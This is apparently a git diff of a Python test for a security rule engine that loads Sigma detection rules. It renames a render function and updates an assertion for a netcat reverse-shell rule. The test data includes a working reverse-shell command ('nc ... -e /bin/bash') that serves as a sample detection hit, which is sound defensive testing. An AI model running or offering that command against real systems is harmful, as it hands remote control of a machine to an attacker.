@@ -15,7 +15,7 @@ import yaml
 from app.errors import InputError
 from app.rules.model import Rule, View
 from app.rules.sigma import FIELDS, KINDS, SigmaLoad, load_sigma
-from app.rules.signals import render
+from app.rules.yamlrules import render_actions
 
 SIGMA_LINUX = Path(__file__).resolve().parents[2].parent / "shared" / "sigma-linux"
 
@@ -144,7 +144,7 @@ def test_metadata_of_a_community_rule(by_sigma_id: dict[str, Rule]) -> None:
     assert rule.source == "sigma:proc_creation_lnx_netcat_reverse_shell.yml"
     assert "@d4ns4n_" in (rule.description or "")
     hit = exec_view("/usr/bin/nc", "nc 203.0.113.9 4444 -e /bin/bash")
-    assert render(rule.actions[0], hit) == (
+    assert render_actions(rule, hit)[0] == (
         "Review process 4242 (/usr/bin/nc) on host node-1: nc 203.0.113.9 4444 -e /bin/bash"
     )
 
